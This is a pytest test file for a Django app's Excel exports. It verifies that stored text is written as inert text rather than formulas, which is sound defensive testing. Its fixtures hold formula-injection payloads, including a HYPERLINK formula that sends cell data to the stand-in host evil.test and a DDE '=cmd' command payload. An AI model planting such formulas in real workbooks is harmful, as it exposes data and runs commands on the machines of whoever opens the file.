"""Every workbook Labinov writes, made with hostile stored text: no live formula, no failure.

Each cell, sheet list and drop-down goes through `core.xlsx.safe`: a text starting with = + - @
gets a leading apostrophe, and control characters stored before inputs were cleaned (written here
straight through the ORM) are dropped instead of making the export answer HTTP 500.
"""

from __future__ import annotations

import datetime
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from labinov.core import xlsx
from labinov.ideas import transfer
from labinov.ideas.models import Idea
from labinov.innovations import exports
from labinov.innovations.models import ActionPlan, Indicator, Milestone
from labinov.programs.models import Participation
from labinov.regions import unit_import
from labinov.regions.models import Pemda, Unit

from ..innovations.test_overview import login, plans_world  # noqa: F401  (fixtures)

DANGEROUS = ("=", "+", "-", "@")
HOSTILE_UNIT = '=HYPERLINK("http://evil.test/?"&A1,"Klik")'


def test_safe_neutralises_and_strips():
    assert xlsx.safe("=1+1") == "'=1+1"
    assert [xlsx.safe(v) for v in ("+62 812", "-1", "@SUM(A1)", "\t=x", "\r=x")] == [
        "'+62 812", "'-1", "'@SUM(A1)", "'\t=x", "'\r=x"]
    assert xlsx.safe("Judul\x0b ide\x02") == "Judul ide"
    assert xlsx.safe("\x02=cmd") == "'=cmd"  # a control character cannot hide a formula
    assert xlsx.safe("Baris\nbaru") == "Baris\nbaru"
    assert (xlsx.safe(-5), xlsx.safe(None), xlsx.safe(datetime.date(2026, 3, 14))) == (-5, None, datetime.date(2026, 3, 14))
    assert xlsx.list_validation_formula(["sd", "=cmd", '"x",y']) == '"sd,\'=cmd,x y"'
    assert xlsx.unquote(xlsx.safe(HOSTILE_UNIT)) == HOSTILE_UNIT and xlsx.unquote("'biasa") == "'biasa"


@pytest.fixture
def hostile(plans_world):
    """The plans world with hostile names everywhere a workbook shows stored text, written by the ORM (no cleaning)."""
    w = plans_world
    Pemda.objects.filter(pk=w.own.pk).update(name="@Kota Salatiga\x0b")
    w.own.refresh_from_db()
    w.program.name = "+Lab INAGARA\x02"
    w.program.stage = "diagnose"
    w.program.save(update_fields=["name", "stage"])
    Unit.objects.filter(pk=w.kel.pk).update(name=HOSTILE_UNIT, code="-1")
    evil = Unit.objects.create(pemda=w.own, name="-SD\x1f Jahat", kind="sd", ownership="negeri", code="@kode")
    Participation.objects.create(program=w.program, unit=evil)
    common = dict(pemda=w.own, program=w.program, form="pelayanan_publik", initiator="perangkat_daerah", status="submitted")
    Idea.objects.create(unit=w.kel, title="=cmd|' /C calc'!A0", problem="\x0bMasalah\x02", proposed_change="@SUM(1)",
                        root_cause="-2+3", proposers="+62 812\x1b", **common)
    Idea.objects.create(unit=evil, title="Judul\x0b dengan tab vertikal", problem="Masalah", proposed_change="Gagasan",
                        urusan=["kesehatan"], **common)
    plan = ActionPlan.objects.get(innovation=w.perpus)
    Milestone.objects.filter(plan=plan).update(activity="\x02=HYPERLINK(\"http://evil.test\")", pic="+62 812",
                                               output="-1", budget_source="@SUM(A1)")
    ActionPlan.objects.filter(pk=plan.pk).update(objective="=tujuan\x0b")
    Indicator.objects.create(plan=plan, name="@indikator\x02", unit_of_measure="=satuan", baseline="-", target="+1")
    w.perpus.name = "=1+1\x0b"
    w.perpus.save(update_fields=["name"])
    return w


def _workbooks(w) -> dict[str, bytes]:
    """Every workbook the app writes (test_every_workbook_writer_is_covered keeps this list complete)."""
    w.program.refresh_from_db()
    return {
        "ideas template": transfer.build_template(program=w.program),
        "ideas export": transfer.export_workbook(actor=w.users["organiser"], program=w.program),
        "units template": unit_import.build_template(w.own),
        "plans export": exports.plans_workbook(program=w.program),
    }


def _problems(name: str, content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))  # not read-only: data validations and cell types are kept
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (isinstance(value, str) and value.startswith(DANGEROUS)):
                    found.append(f"{name}: {ws.title}!{cell.coordinate} = {value!r}")
                if isinstance(value, str) and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", value):
                    found.append(f"{name}: {ws.title}!{cell.coordinate} holds a control character")
        for dv in ws.data_validations.dataValidation:
            formula = dv.formula1 or ""
            if formula.startswith('"'):
                items = formula.strip('"').split(",")
                found += [f"{name}: drop-down item {i!r}" for i in items if i.startswith(DANGEROUS)]
            elif formula and not re.fullmatch(r"[A-Za-z]+!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+", formula):
                found.append(f"{name}: drop-down formula {formula!r}")
            for text in (dv.prompt, dv.error, dv.promptTitle, dv.errorTitle):
                if text and text.startswith(DANGEROUS):
                    found.append(f"{name}: drop-down text {text!r}")
    return found


def test_every_workbook_neutralises_hostile_stored_text(hostile):
    books = _workbooks(hostile)
    problems = [p for name, content in books.items() for p in _problems(name, content)]
    assert not problems, problems
    # the hostile texts are there, as plain text
    template = load_workbook(io.BytesIO(books["ideas template"]))
    assert "'" + HOSTILE_UNIT in [c.value for c in template["Daftar"]["A"]]
    assert "'" + HOSTILE_UNIT in [c.value for row in template["Petunjuk"].iter_rows() for c in row]
    export = load_workbook(io.BytesIO(books["ideas export"]))["Ide"]
    titles = [r[3] for r in export.iter_rows(min_row=2, values_only=True)]
    assert "'=cmd|' /C calc'!A0" in titles and "Judul dengan tab vertikal" in titles
    plans = load_workbook(io.BytesIO(books["plans export"]))["Rencana aksi"]
    assert any(r[5] == "'=HYPERLINK(\"http://evil.test\")" for r in plans.iter_rows(values_only=True))


def test_exports_with_control_characters_stored_answer_200(hostile, login):  # noqa: F811
    w = hostile
    client = login(w.users["organiser"])
    for name in ("idea_export", "plans_export_xlsx"):
        args = {"pemda": w.own.slug, "program": w.program.pk} if name == "idea_export" else None
        url = reverse(name, kwargs=args) if args else reverse(name, args=[w.own.slug, w.program.pk])
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert response.content[:2] == b"PK"


def test_the_import_reads_back_a_unit_named_like_a_formula(hostile):
    """A drop-down value of the template ('=HYPERLINK…) is the unit again when the file comes back."""
    w = hostile
    validator = transfer.Validator(w.program)
    row = validator.check(2, {"unit": "'" + HOSTILE_UNIT, "judul": "Ide", "masalah": "M", "gagasan": "G",
                              "bentuk": "pelayanan_publik"}, set())
    assert not row.errors and row.fields["unit_id"] == w.kel.pk


def test_every_workbook_writer_is_covered():
    """A new module writing workbooks must be added to `_workbooks` above (and go through core.xlsx.safe)."""
    src = Path(xlsx.__file__).resolve().parents[1]
    # A module writes workbooks when it makes one: directly, or through core.xlsx.template_sheet (whose
    # own header row goes through safe_row).
    writers = sorted(str(p.relative_to(src)) for p in src.rglob("*.py")
                     if p != Path(xlsx.__file__).resolve() and re.search(r"\b(Workbook|template_sheet)\(", p.read_text()))
    assert writers == ["ideas/transfer_export.py", "ideas/transfer_template.py", "innovations/exports.py", "regions/unit_import.py"]
